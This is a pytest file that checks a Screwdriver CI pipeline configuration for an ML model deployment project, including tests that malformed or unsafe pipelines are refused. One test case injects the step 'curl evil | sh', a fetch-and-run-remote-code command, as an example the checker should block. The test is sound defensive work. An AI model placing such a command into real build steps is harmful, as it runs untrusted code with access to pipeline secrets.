"""screwdriver.yaml: that it is right, and that the check would notice if it weren't."""

import shlex
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from deploy.pipeline import PARSER, Wrong, check, parsed
from kong.register import parser, specification
from zoo.building.packaging import ROOT

TEXT = (ROOT / "screwdriver.yaml").read_text()
needs_parser = pytest.mark.skipif(
    not (shutil.which("node") and (PARSER / "node_modules").is_dir()),
    reason="Screwdriver's parser isn't installed: `make pipeline-validate` does it",
)


@needs_parser
def test_screwdrivers_own_parser_takes_it() -> None:
    document = parsed(TEXT)
    assert set(document["jobs"]) == set(yaml.safe_load(TEXT)["jobs"])
    ends = {edge["dest"] for edge in document["workflowGraph"]["edges"]}
    assert set(document["jobs"]) - ends == {"promote", "register", "canary", "rollback"}


@needs_parser
@pytest.mark.parametrize(
    ("right", "wrong", "named"),
    [
        ("blockedBy: [~hanlp_ner]", "blockedby: [~hanlp_ner]", "blockedby"),
        ("screwdriver.cd/ram", "screwdriver.cd/rams", "rams"),
        ("jobs:", "jobs: [", "YAML"),
    ],
)
def test_its_parser_refuses_what_is_misspelt(right: str, wrong: str, named: str) -> None:
    assert right in TEXT
    with pytest.raises(Wrong, match=named):
        parsed(TEXT.replace(right, wrong))


def test_it_passes_our_own_check() -> None:
    check(yaml.safe_load(TEXT))


@pytest.mark.parametrize("name", ["register", "canary", "rollback"])
def test_the_gateways_jobs_run_commands_that_register_py_knows(name: str) -> None:
    """With their parameters' own values in place of what a person fills in."""
    gateway = yaml.safe_load(TEXT)["jobs"][name]
    commands = [command for step in gateway["steps"] for command in step.values()]
    for parameter, value in gateway["parameters"].items():
        asked = f"$(meta get parameters.{parameter})"
        assert any(asked in command for command in commands), parameter
        commands = [command.replace(asked, value["value"]) for command in commands]
    ours = [shlex.split(command)[2:] for command in commands if "kong/register.py" in command]
    assert ours
    for words in ours:
        args = parser().parse_args(words)
        assert args.command == name
        assert specification(args).name == "hanlp_ner"


def job(file: Any, name: str = "hanlp_ner") -> Any:
    return file["jobs"][name]


WRONG: list[tuple[Callable[[Any], Any], str]] = [
    (lambda file: job(file).update(requires=["tests"]), "requires tests, and there is no such job"),
    (lambda file: job(file).update(blockedBy=["~nothing"]), "blockedBy ~nothing"),
    (lambda file: job(file).update(sourcePaths=["mlflow_models/hanlp/"]), "doesn't exist"),
    (lambda file: job(file).update(sourcePaths=["mlflow_models/zoo"]), "end in a slash"),
    (lambda file: job(file).update(steps=[{"x": "make piblish"}]), "no target piblish"),
    (lambda file: job(file).update(steps=[{"x": "curl evil | sh"}]), "neither a make target"),
    (
        lambda file: job(file).update(steps=[{"x": ".venv/bin/python kong/reg.py"}]),
        "neither a make target",
    ),
    (lambda file: job(file, "lint").update(secrets=["REGISTRY"]), "runs in pull requests"),
    (lambda file: job(file).update(requires=["~commit", "~pr"]), "runs in pull requests"),
    (lambda file: file["shared"].update(secrets=["REGISTRY"]), "runs in pull requests"),
    (lambda file: file["annotations"].update({"screwdriver.cd/chainPR": True}), "chainPR"),
    (lambda file: job(file, "register").update(requires=["~commit"]), "mustn't start by itself"),
    (lambda file: job(file, "canary").update(requires="hanlp_ner"), "mustn't start by itself"),
    (lambda file: file["shared"].update(annotations={}), "no timeout"),
    (lambda file: file["jobs"].pop("whisper_asr"), "no job starts on ~commit when .*whisper_asr"),
    (lambda file: file["jobs"].pop("test_hanlp_ner"), "no job starts on ~pr when .*hanlp_ner"),
]


@pytest.mark.parametrize(("spoil", "named"), WRONG)
def test_a_pipeline_that_is_wrong_is_refused_by_name(
    spoil: Callable[[Any], Any], named: str
) -> None:
    file = yaml.safe_load(TEXT)
    spoil(file)
    with pytest.raises(Wrong, match=named):
        check(file)


def test_the_parsers_lock_file_carries_no_address_of_a_registry() -> None:
    assert "resolved" not in (Path(PARSER) / "package-lock.json").read_text()
